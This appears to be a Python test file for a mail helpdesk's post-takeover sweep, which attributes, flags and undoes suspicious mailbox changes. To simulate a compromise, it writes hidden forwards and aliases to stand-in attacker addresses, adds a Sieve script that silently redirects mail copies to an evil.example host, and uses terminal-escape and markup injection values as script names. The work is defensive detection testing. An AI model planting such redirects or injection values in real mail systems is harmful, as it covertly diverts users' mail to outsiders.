"""The sweep after a takeover on all three databases: changes recorded by the triggers whoever
made them, told apart exactly (helpdesk with its audit row, or another program, even inside the
helpdesk's transaction), external targets flagged, the customer's new or changed scripts (through
a rules command over a folder), and undone with a ticket and an audit row."""

from __future__ import annotations

import json
import os
import threading
import time
from datetime import datetime
from pathlib import Path

from sqlalchemy import (
    Column,
    DateTime,
    Integer,
    MetaData,
    String,
    Table,
    func,
    insert,
    select,
    text,
    update,
)

from helpdesk.mailcenter import change_triggers
from helpdesk.mailcenter.audit import Operator, record
from helpdesk.mailcenter.change_marks import start_changes
from helpdesk.mailcenter.db import Database
from helpdesk.mailcenter.mailboxes import create_mailbox
from helpdesk.mailcenter.schema import aliases, audit_log, delivery_sieve, forwards, mailboxes
from helpdesk.sweep.changes import list_changes
from tests.conftest import run_cli
from tests.hostile import VALUES, assert_clean, assert_markup_shown
from tests.rules_dir import command, put

ALICE = "alice@example.org"
SINCE = datetime(2000, 1, 1)


def sweep(config_file, *args: str):
    return run_cli("sweep", ALICE, *args, config=config_file)


def changes(config_file) -> list[dict]:
    out = sweep(config_file, "--json")
    assert out.returncode == 0, out.stderr
    return json.loads(out.stdout)["changes"]


def test_a_forward_written_by_another_program_is_listed_flagged_and_undone(db, config_file):
    with db.begin() as conn:
        mailbox_id = create_mailbox(conn, ALICE)
        create_mailbox(conn, "bob@example.org")
    out = run_cli("forward", "set", ALICE, "--to", "bob@example.org", "--ticket", "T-1",
                  config=config_file)  # fmt: skip
    assert out.returncode == 0, out.stderr
    # Then, as a compromised web panel would: straight into the table, no audit row.
    with db.begin() as conn:
        conn.execute(
            insert(forwards).values(
                mailbox_id=mailbox_id, target="drop@evil.example", keep_copy=True
            )
        )
    listed = changes(config_file)
    evil = [c for c in listed if c["detail"] == "drop@evil.example" and c["op"] == "insert"]
    assert len(evil) == 1
    assert evil[0]["by"] == "other" and evil[0]["external"] is True and evil[0]["undoable"]
    assert evil[0]["who_message"]["text"] == "by another program"
    mine = [c for c in listed if c["detail"] == "bob@example.org" and c["op"] == "insert"]
    assert mine and mine[0]["by"] == "helpdesk" and mine[0]["external"] is False
    assert "by the helpdesk" in mine[0]["who_message"]["text"]
    human = sweep(config_file).stdout
    assert "by another program" in human and "EXTERNAL" in human

    out = sweep(config_file, "--undo", str(evil[0]["id"]), "--ticket", "T-2")
    assert out.returncode == 0, out.stderr
    with db.connect() as conn:
        targets = conn.execute(select(forwards.c.target)).scalars().all()
        assert targets == ["bob@example.org"]
        undo_rows = conn.execute(
            select(audit_log.c.action, audit_log.c.ticket).where(audit_log.c.action == "sweep.undo")
        ).all()
        assert [tuple(r) for r in undo_rows] == [("sweep.undo", "T-2")]
        script = conn.execute(select(delivery_sieve.c.script)).scalar_one()
        assert "evil.example" not in script and "bob@example.org" in script
    # The removal is listed as well, by the helpdesk.
    removal = [c for c in changes(config_file) if c["op"] == "delete"]
    assert removal and removal[0]["by"] == "helpdesk"


def test_aliases_passwords_and_suspensions_are_listed_but_a_password_is_not_undone(db, config_file):
    with db.begin() as conn:
        mailbox_id = create_mailbox(conn, ALICE)
        domain_id = conn.execute(text("SELECT id FROM domains WHERE name = 'example.org'")).scalar()
        conn.execute(insert(aliases).values(domain_id=domain_id, address=ALICE,
                                            target="copy@evil.example"))  # fmt: skip
        conn.execute(
            update(mailboxes).where(mailboxes.c.id == mailbox_id)
            .values(password_hash="$6$x$y", smtp_enabled=False)
        )  # fmt: skip
    listed = {c["kind"]: c for c in changes(config_file)}
    assert set(listed) == {"alias", "password", "sending"}
    assert listed["alias"]["external"] is True
    assert listed["password"]["detail"] == "" and listed["password"]["undoable"] is False
    out = sweep(config_file, "--undo", str(listed["password"]["id"]), "--ticket", "T-3")
    assert out.returncode != 0 and "reset the password" in out.stderr
    out = sweep(config_file, "--undo", str(listed["alias"]["id"]), "--ticket", "chmidt")
    assert out.returncode != 0
    with db.connect() as conn:
        assert conn.execute(select(func.count()).select_from(aliases)).scalar_one() == 1
    for kind in ("alias", "sending"):
        out = sweep(config_file, "--undo", str(listed[kind]["id"]), "--ticket", "T-4")
        assert out.returncode == 0, out.stderr
    with db.connect() as conn:
        assert conn.execute(select(func.count()).select_from(aliases)).scalar_one() == 0
        assert conn.execute(select(mailboxes.c.smtp_enabled)).scalar_one() is True
        assert conn.execute(select(func.count()).select_from(audit_log)).scalar_one() == 2


def test_another_programs_change_inside_a_helpdesk_transaction_stays_another_programs(db):
    """Exact attribution: a web panel's forward written while the helpdesk's transaction is
    open (the same second) is not the helpdesk's; the helpdesk's own is, with its audit id."""
    with db.begin() as conn:
        mailbox_id = create_mailbox(conn, ALICE)
    panel = Database(db.url.render_as_string(hide_password=False))
    wrote = threading.Event()

    def panel_writes() -> None:
        with panel.begin() as conn:
            conn.execute(insert(forwards).values(mailbox_id=mailbox_id, target="drop@evil.example"))
        wrote.set()

    with db.begin() as conn:
        start_changes(conn)
        thread = threading.Thread(target=panel_writes)
        thread.start()
        # PostgreSQL and MariaDB: the panel commits now; SQLite: it waits for the writer lock.
        wrote.wait(1.5)
        conn.execute(insert(forwards).values(mailbox_id=mailbox_id, target="mine@example.org"))
        record(conn, operator=Operator("tester"), action="forward.set", target=ALICE, ticket="T-1")
    thread.join(20)
    panel.dispose()
    assert wrote.is_set()
    with db.connect() as conn:
        audit_id = conn.execute(select(audit_log.c.id)).scalar_one()
        by = {c.detail: (c.audit_id, c.operator) for c in list_changes(conn, ALICE, SINCE)}
    assert by == {"mine@example.org": (audit_id, "tester"), "drop@evil.example": (None, None)}


def test_db_init_upgrades_a_mailbox_changes_table_and_triggers_from_before(db, config_file):
    """A database from before exact attribution (no txn/audit_id columns, the old triggers):
    `db init` adds the columns and replaces the triggers, and the helpdesk's writes are its own."""
    dialect = "mysql" if db.engine.dialect.name == "mariadb" else db.engine.dialect.name
    old_triggers = [
        s.replace(", txn) VALUES", ") VALUES").replace(f", {change_triggers._TXN[dialect]})", ")")
        for s in change_triggers.statements(dialect)
    ]
    old = MetaData()
    old_table = Table(
        "mailbox_changes", old, Column("id", Integer, primary_key=True),
        Column("at", DateTime, nullable=False), Column("address", String(320)),
        Column("kind", String(16), nullable=False), Column("op", String(8), nullable=False),
        Column("detail", String(320)),
    )  # fmt: skip
    with db.begin() as conn:
        conn.execute(text("DROP TABLE mailbox_changes"))
        old_table.create(conn)
        for statement in old_triggers:
            conn.exec_driver_sql(statement)
        mailbox_id = create_mailbox(conn, ALICE)
        conn.execute(insert(forwards).values(mailbox_id=mailbox_id, target="old@evil.example"))
    out = run_cli("db", "init", config=config_file)
    assert out.returncode == 0, out.stderr
    out = run_cli("forward", "set", ALICE, "--to", "new@example.org", "--ticket", "T-7",
                  config=config_file)  # fmt: skip
    assert out.returncode == 0, out.stderr
    by = {(c["detail"], c["op"]): c["by"] for c in changes(config_file)}
    assert by == {
        ("old@evil.example", "insert"): "other",
        ("old@evil.example", "delete"): "helpdesk",
        ("new@example.org", "insert"): "helpdesk",
    }


def rules_config(db, tmp_path: Path) -> tuple[Path, Path]:
    folder = tmp_path / "sieve"
    folder.mkdir()
    path = tmp_path / "rules.toml"
    url = db.url.render_as_string(hide_password=False)
    path.write_text(f'[database]\nurl = "{url}"\n\n[sieve]\nrules_command = {command(folder)}\n')
    return path, folder


def rules(config: Path) -> list[dict]:
    return [c for c in changes(config) if c["kind"] == "rule"]


def test_a_new_or_changed_customer_script_is_listed_and_undone_by_deactivating(db, tmp_path):
    config, folder = rules_config(db, tmp_path)
    with db.begin() as conn:
        create_mailbox(conn, ALICE)
    # Years old and never seen: the file's time says it is not recent, so it is not listed.
    put(folder, ALICE, "old", 'require ["fileinto"];\nfileinto "Archive";\n', active=False)
    os.utime(folder / ALICE / "old.sieve", (0, time.time() - 90 * 86400))
    put(
        folder, ALICE, "own", 'require ["copy"];\nif true { redirect :copy "Loot@Evil.example"; }\n'
    )
    listed = rules(config)
    assert [(r["detail"], r["op"], r["by"]) for r in listed] == [("own", "insert", "other")]
    assert listed[0]["external"] is True and listed[0]["redirects"] == ["loot@evil.example"]
    assert "redirects to loot@evil.example" in sweep(config).stdout
    assert len(rules(config)) == 1  # seen now: not noted twice

    out = sweep(config, "--undo", str(listed[0]["id"]), "--ticket", "T-8")
    assert out.returncode == 0, out.stderr
    assert not (folder / ALICE / "active").exists()
    out = sweep(config, "--undo", str(listed[0]["id"]), "--ticket", "T-9")
    assert out.returncode != 0 and "not active" in out.stderr
    with db.connect() as conn:
        undone = conn.execute(select(audit_log.c.ticket, audit_log.c.before)).all()
    assert len(undone) == 1 and undone[0].ticket == "T-8"
    assert json.loads(undone[0].before)["active"] == "own"

    # The same name with new content: listed again, as a change; a local redirect is no flag.
    put(folder, ALICE, "own", 'redirect "bob@example.org";\n', active=False)
    listed = rules(config)
    assert [(r["detail"], r["op"]) for r in listed] == [("own", "update"), ("own", "insert")]
    assert listed[0]["external"] is False and listed[0]["redirects"] == ["bob@example.org"]


def test_the_sweep_says_when_the_rules_cannot_be_read(db, config_file):
    with db.begin() as conn:
        create_mailbox(conn, ALICE)
    out = sweep(config_file, "--json")
    assert out.returncode == 0, out.stderr
    assert "rules_command is not set" in json.loads(out.stdout)["rules_message"]["text"]


def test_a_hostile_script_name_and_redirect_are_shown_as_text(db, tmp_path):
    config, folder = rules_config(db, tmp_path)
    with db.begin() as conn:
        create_mailbox(conn, ALICE)
    for i, key in enumerate(("csi", "markup-click", "bidi", "c1")):
        target = VALUES[key].replace('"', "").replace("\\", "")
        name = f"s{i}" + VALUES[key].replace("/", "")[:40]
        put(folder, ALICE, name, f'redirect "{target}@evil.example";\n', active=False)
    out = sweep(config)
    assert out.returncode == 0, out.stderr
    assert_clean(out.stdout, where="sweep")
    assert_markup_shown(out.stdout, where="sweep")
    assert out.stdout.count("rule added") == 4 and "click-me" in out.stdout
